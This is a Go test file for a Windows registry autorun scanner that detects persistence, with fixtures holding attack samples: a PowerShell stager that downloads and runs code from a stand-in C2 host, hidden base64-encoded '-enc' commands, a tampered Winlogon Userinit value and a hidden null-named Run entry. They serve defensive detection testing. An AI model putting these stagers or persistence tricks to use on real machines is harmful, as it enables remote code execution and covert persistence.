package autoruns

import (
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/runkeyhunt/runkeyhunt/tables/registry"
)

const (
	runKey = `Software\Microsoft\Windows\CurrentVersion\Run`
	cvKey  = `Software\Microsoft\Windows\CurrentVersion`
)

func sz(name, data string) registry.Value {
	return registry.Value{Name: name, Type: registry.RegSZ, Data: registry.EncodeUTF16(data)}
}

func b64utf16(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func userHive(sid, name string) *registry.MemHive {
	return registry.NewMemHive(registry.HiveInfo{Root: `HKEY_USERS\` + sid, Scope: registry.ScopeUser, SID: sid, Username: name})
}

func machineHive() *registry.MemHive {
	return registry.NewMemHive(registry.HiveInfo{Root: "HKEY_LOCAL_MACHINE", Scope: registry.ScopeMachine})
}

func scan(t testing.TB, hives ...registry.Hive) []Row {
	t.Helper()
	s := Scanner{View: registry.StaticView(hives), Warn: func(err error) { t.Errorf("warning: %v", err) }}
	rows, err := s.Scan(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

const stager = "$wc=New-Object System.Net.WebClient;IEX $wc.DownloadString('http://c2.example.invalid/admin/get.php')"

func TestMachineAutorunReadingHKCUResolvesPerUser(t *testing.T) {
	m := machineHive()
	m.SetValue(`SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, sz("U", `powershell -c "iex ((gp HKCU:\Software\X).P)"`))
	alice, bob := userHive("S-1-5-21-1-1001", "alice"), userHive("S-1-5-21-1-1002", "bob")
	alice.SetValue(`Software\X`, sz("P", stager))
	rows := scan(t, m, alice, bob)
	if len(rows) != 1 || rows[0].PayloadPath != `HKEY_USERS\S-1-5-21-1-1001\Software\X\P` || rows[0].PayloadExists != 1 {
		t.Fatalf("rows: %+v", rows)
	}
	bob.SetValue(`Software\X`, sz("P", "Write-Host hi"))
	if rows := scan(t, m, alice, bob); len(rows) != 2 {
		t.Errorf("want one row per user holding the payload, got %d", len(rows))
	}
	rows = scan(t, m)
	if len(rows) != 1 || rows[0].PayloadExists != 0 || rows[0].PayloadPath != `HKEY_CURRENT_USER\Software\X\P` {
		t.Errorf("missing payload: %+v", rows)
	}
}

func TestInlineEncodedCommandIsFollowed(t *testing.T) {
	u := userHive("S-1-5-21-1-1001", "alice")
	inner := `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:Software\Y Z).Z)))`
	u.SetValue(runKey, sz("E", "powershell -w hidden -enc "+b64utf16(inner)))
	u.SetValue(`Software\Y`, sz("Z", b64utf16(stager)))
	rows := scan(t, u)
	if len(rows) != 2 {
		t.Fatalf("want the inline row and the registry row it leads to, got %+v", rows)
	}
	if rows[0].PayloadKind != "inline" || !strings.Contains(rows[0].PayloadPreview, "gp HKCU") {
		t.Errorf("inline row: %+v", rows[0])
	}
	if rows[1].PayloadKind != "registry" || rows[1].PayloadEncoding != "base64/utf16le" || !strings.Contains(rows[1].PayloadPreview, "DownloadString") || rows[1].Verdict != "malicious" {
		t.Errorf("nested registry row: %+v", rows[1])
	}
}

func TestStructuralIndicators(t *testing.T) {
	m := machineHive()
	m.SetValue(`SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, sz("Userinit", `C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe`))
	m.SetValue(`SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, sz("Shell", "explorer.exe"))
	m.SetValue(`SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon`, sz("AutoAdminLogon", "0"))
	u := userHive("S-1-5-21-1-1001", "alice")
	u.SetValue(runKey, sz("\x00Hidden", `C:\Users\alice\AppData\Local\Temp\a.exe`))
	u.SetValue(runKey, sz("Off", `C:\tools\off.exe`))
	u.SetValue(runKey, registry.Value{Name: "Count", Type: registry.RegDWORD, Data: []byte{1, 0, 0, 0}})
	u.SetValue(cvKey+`\Explorer\StartupApproved\Run`, registry.Value{Name: "Off", Type: registry.RegBinary, Data: []byte{3, 0, 0, 0}})
	byName := map[string]Row{}
	for _, r := range scan(t, m, u) {
		byName[r.Name] = r
	}
	if len(byName) != 4 {
		t.Fatalf("want Userinit, Shell, the hidden value and Off (no DWORD, no AutoAdminLogon): %v", byName)
	}
	if r := byName["Userinit"]; !strings.Contains(r.Indicators, "winlogon_modified") || r.Verdict == "benign" {
		t.Errorf("Userinit: %+v", r)
	}
	if r := byName["Shell"]; r.Indicators != "" || r.Location != "winlogon_shell" {
		t.Errorf("Shell: %+v", r)
	}
	hidden := byName[`\0Hidden`]
	if !strings.Contains(hidden.Indicators, "hidden_value_name") || !strings.Contains(hidden.Indicators, "user_writable_image") || !strings.HasSuffix(hidden.Path, `Run\\0Hidden`) {
		t.Errorf("hidden value: %+v", hidden)
	}
	if byName["Off"].Enabled != 0 || byName[`\0Hidden`].Enabled != 1 {
		t.Errorf("enabled: %d %d", byName["Off"].Enabled, byName[`\0Hidden`].Enabled)
	}
}

func TestHugePayloadIsBounded(t *testing.T) {
	u := userHive("S-1-5-21-1-1001", "alice")
	u.SetValue(runKey, sz("Big", `powershell -c "iex ((gp HKCU:\Software\Big).P)"`))
	u.SetValue(`Software\Big`, sz("P", strings.Repeat("A", 10<<20)))
	rows := scan(t, u)
	if len(rows) != 1 || rows[0].PayloadSize != 10<<20 || len([]rune(rows[0].PayloadPreview)) > 4096 {
		t.Fatalf("size %d preview %d", rows[0].PayloadSize, len(rows[0].PayloadPreview))
	}
}

// BenchmarkScan is the set: 20 users x 40 autorun values, each
// reading a registry payload (an Empire-sized base64/utf16le stager).
func BenchmarkScan(b *testing.B) {
	var hives []registry.Hive
	for u := 0; u < 20; u++ {
		h := userHive(fmt.Sprintf("S-1-5-21-1-%d", 1000+u), fmt.Sprintf("user%d", u))
		for v := 0; v < 40; v++ {
			h.SetValue(runKey, sz(fmt.Sprintf("V%d", v), fmt.Sprintf(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\P%d Debug).Debug);powershell -Win Hidden -enc $x"`, v)))
			// Every payload differs, as it would across real hosts' users.
			payload := b64utf16(fmt.Sprintf("# user %d value %d\n", u, v) + strings.Repeat(stager+";", 16))
			h.SetValue(fmt.Sprintf(`Software\P%d`, v), sz("Debug", payload))
		}
		hives = append(hives, h)
	}
	s := Scanner{View: registry.StaticView(hives)}
	b.ReportAllocs()
	b.ResetTimer()
	cpu, cpuOK := processCPU()
	var rows []Row
	for i := 0; i < b.N; i++ {
		rows, _ = s.Scan(context.Background())
	}
	b.StopTimer()
	reportCPU(b, cpu, cpuOK)
	if len(rows) != 800 || rows[0].Verdict != "malicious" {
		b.Fatalf("rows %d", len(rows))
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/800, "ns/row")
}

// reportCPU adds the process's CPU time per op since start (cpu-ms/op) to
// b's metrics, where Linux tells it.
func reportCPU(b *testing.B, start time.Duration, ok bool) {
	if end, ok2 := processCPU(); ok && ok2 && b.N > 0 {
		b.ReportMetric(float64(end-start)/float64(b.N)/1e6, "cpu-ms/op")
	}
}
